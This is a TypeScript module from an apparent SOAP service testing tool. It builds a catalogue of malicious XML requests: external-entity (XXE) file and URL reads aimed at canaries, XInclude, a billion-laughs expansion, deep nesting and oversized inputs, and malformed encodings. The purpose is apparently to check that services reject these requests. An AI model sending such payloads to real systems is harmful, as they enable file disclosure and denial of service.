import { bindingsThat, isSoap11 } from "../../model/binding.ts";
import type { Call } from "../../model/call.ts";
import { endpoint } from "../../wire/client/endpoint.ts";
import { soapHeaders } from "../../wire/encode/soap11.ts";
import type { WireRequest, WireService } from "../../wire/encode/wire-request.ts";
import { writeEnvelope } from "../relation/write-envelope.ts";
import type { Attack } from "./attack.ts";
import type { Canary } from "./canary.ts";

const SOAP_11 = bindingsThat(isSoap11);
const DECLARATION = '<?xml version="1.0" encoding="utf-8"?>';
/** About 10^8 characters for who expands them: slow and large, but no machine dies of it. */
const LAUGH_LEVELS = 8;
const REFERENCES = 500;
const KIB = 1024;
const DEPTH = 20_000;
const MANY = 20_000;
const GUID = "0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d";

/** Where there is no canary, nothing leads to it. */
const NOWHERE = { url: "", fileUrl: "" };
const LEADS = { leads: true } as const;
const HEAVY = { heavy: true } as const;

/** A right message with a document type declaration before it, and this as the value of the GUID. */
const withDtd = (
  name: string,
  dtd: (canary: Pick<Canary, "url" | "fileUrl">) => string,
  value: string,
  more: Pick<Attack, "leads" | "heavy"> = {},
): Attack => ({
  name,
  bindings: SOAP_11,
  // SOAP 1.1, 3: "A SOAP message MUST NOT contain a Document Type Declaration."
  neverAccepted: true,
  ...more,
  message: (call, service, canary) =>
    canary || !more.leads
      ? valued(call, service, value, `${DECLARATION}${dtd(canary ?? NOWHERE)}`)
      : undefined,
});

/** A message of our own making. */
const document = (
  name: string,
  body: (call: Call, service: WireService) => string | Buffer,
  more: Partial<Attack> & { readonly contentType?: string } = {},
): Attack => {
  const { contentType, ...rest } = more;
  return {
    name,
    bindings: SOAP_11,
    neverAccepted: true,
    message: (call, service) => ({
      method: "POST",
      url: endpoint(service.baseUrl),
      headers: {
        ...soapHeaders(call.operation),
        ...(contentType === undefined ? {} : { "content-type": contentType }),
      },
      body: body(call, service),
    }),
    ...rest,
  };
};

const laughs = Array.from({ length: LAUGH_LEVELS }, (_, level) =>
  level === 0 ? '<!ENTITY l0 "laughs">' : `<!ENTITY l${level} "${`&l${level - 1};`.repeat(10)}">`,
).join("");

const plainBody = (call: Call, service: WireService): string =>
  String(writeEnvelope(call, service, {}).body);

/** What XML readers have been led to do; every message is well-formed HTTP. */
export const XML_ATTACKS: readonly Attack[] = [
  withDtd("an entity of its own", () => `<!DOCTYPE a [<!ENTITY e "${GUID}">]>`, "&e;"),
  withDtd(
    "an external entity: a file",
    (c) => dtd(`<!ENTITY e SYSTEM "${c.fileUrl}">`),
    "&e;",
    LEADS,
  ),
  withDtd("an external entity: a URL", (c) => dtd(`<!ENTITY e SYSTEM "${c.url}">`), "&e;", LEADS),
  withDtd(
    "an external entity with a public identifier",
    (c) => dtd(`<!ENTITY e PUBLIC "-//A//B" "${c.url}">`),
    "&e;",
    LEADS,
  ),
  withDtd("an external DTD", (c) => `<!DOCTYPE a SYSTEM "${c.url}">`, GUID, LEADS),
  withDtd("a parameter entity", (c) => dtd(`<!ENTITY % p SYSTEM "${c.url}"> %p;`), GUID, LEADS),
  withDtd("an entity that refers to itself", () => dtd('<!ENTITY e "&e;&e;">'), "&e;"),
  withDtd("a billion laughs", () => dtd(laughs), `&l${LAUGH_LEVELS - 1};`, HEAVY),
  withDtd(
    "one long entity, many times",
    () => dtd(`<!ENTITY e "${"e".repeat(64 * KIB)}">`),
    "&e;".repeat(REFERENCES),
    HEAVY,
  ),
  {
    name: "an XInclude of a file",
    leads: true,
    bindings: SOAP_11,
    neverAccepted: true,
    message: (call, service, canary) =>
      canary &&
      valued(
        call,
        service,
        `<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="${canary.fileUrl}" parse="text"/>`,
      ),
  },
  {
    name: "a style sheet and a schema at a URL",
    leads: true,
    bindings: SOAP_11,
    neverAccepted: false,
    message: (call, service, canary) =>
      canary &&
      writeEnvelope(call, service, {
        prolog: `${DECLARATION}<?xml-stylesheet href="${canary.url}" type="text/xsl"?>`,
        header: `<a xmlns="urn:a" xmlns:x="http://www.w3.org/2001/XMLSchema-instance" x:schemaLocation="urn:a ${canary.url}"/>`,
      }),
  },
  document(
    "elements nested deeply",
    (call, service) =>
      plainBody(call, service).replace(
        /(<[^<>]*Body>)/,
        (body) => `${body}${"<a>".repeat(DEPTH)}${"</a>".repeat(DEPTH)}`,
      ),
    { ...HEAVY, neverAccepted: false },
  ),
  document("elements that do not end", () => "<a>".repeat(DEPTH), HEAVY),
  document(
    "many attributes",
    (call, service) => {
      const attributes = Array.from({ length: MANY }, (_, n) => ` a${n}=""`).join("");
      return plainBody(call, service).replace("Envelope", () => `Envelope${attributes}`);
    },
    { ...HEAVY, neverAccepted: false },
  ),
  document(
    "many namespaces",
    (call, service) => {
      const declared = Array.from({ length: MANY }, (_, n) => ` xmlns:n${n}="urn:${n}"`).join("");
      return plainBody(call, service).replace("Envelope", () => `Envelope${declared}`);
    },
    { ...HEAVY, neverAccepted: false },
  ),
  document("a name of 256 KiB", () => `<${"a".repeat(256 * KIB)}/>`, HEAVY),
  document(
    "a comment of 1 MiB",
    (call, service) => `<!--${"x ".repeat(512 * KIB)}-->${withoutProlog(plainBody(call, service))}`,
    { ...HEAVY, neverAccepted: false },
  ),
  document("nothing at all", () => ""),
  document("only a declaration", () => DECLARATION),
  // Who reads no further than the body does not see the second.
  document("two roots", (call, service) => `${plainBody(call, service)}<a/>`, {
    neverAccepted: false,
  }),
  document("half a message", (call, service) => {
    const body = plainBody(call, service);
    return body.slice(0, body.length / 2);
  }),
  document("an attribute twice", (call, service) =>
    plainBody(call, service).replace("Envelope", 'Envelope a="1" a="2"'),
  ),
  document("an undeclared prefix", (call, service) =>
    plainBody(call, service).replaceAll("soap:Body", "none:Body"),
  ),
  document("a NUL between elements", (call, service) =>
    plainBody(call, service).replace("><", ">\0<"),
  ),
  document("a reference to a character that XML forbids", (call, service) =>
    String(writeEnvelope(call, service, { value: () => "&#0;&#xFFFE;&#55296;" }).body),
  ),
  document(
    "an unknown encoding",
    (call, service) => plainBody(call, service).replace("utf-8", "x-none"),
    { neverAccepted: false, contentType: "text/xml; charset=x-none" },
  ),
  document(
    "half a character of UTF-16",
    (call, service) => Buffer.from(`\ufeff${plainBody(call, service)}`, "utf16le").subarray(0, -1),
    { neverAccepted: false, contentType: "text/xml; charset=utf-16" },
  ),
  document(
    "UTF-16 that says it is UTF-8",
    (call, service) => Buffer.from(withoutProlog(plainBody(call, service)), "utf16le"),
    { neverAccepted: false },
  ),
  document("UTF-32", (call, service) => utf32(plainBody(call, service)), { neverAccepted: false }),
  document("a reference to itself instead of a value", (call, service) =>
    String(writeEnvelope(call, service, { value: () => '<a id="i"/><b href="#i"/>' }).body),
  ),
  document("JSON", () => '{"Envelope":{"Body":{}}}'),
];

function dtd(declarations: string): string {
  return `<!DOCTYPE a [${declarations}]>`;
}

/** The call with this XML as the value of its GUID, or of its last parameter. */
function valued(call: Call, service: WireService, xml: string, prolog?: string): WireRequest {
  const name = call.arguments.at(-1)?.name ?? "";
  return writeEnvelope(call, service, {
    ...(prolog === undefined ? {} : { prolog }),
    value: (text, of) => (of === name ? xml : text),
  });
}

function withoutProlog(xml: string): string {
  return xml.replace(/^<\?xml[^>]*\?>/, "");
}

function utf32(text: string): Buffer {
  const bytes = Buffer.alloc(text.length * 4);
  for (let at = 0; at < text.length; at++) bytes.writeUInt32BE(text.charCodeAt(at), at * 4);
  return bytes;
}
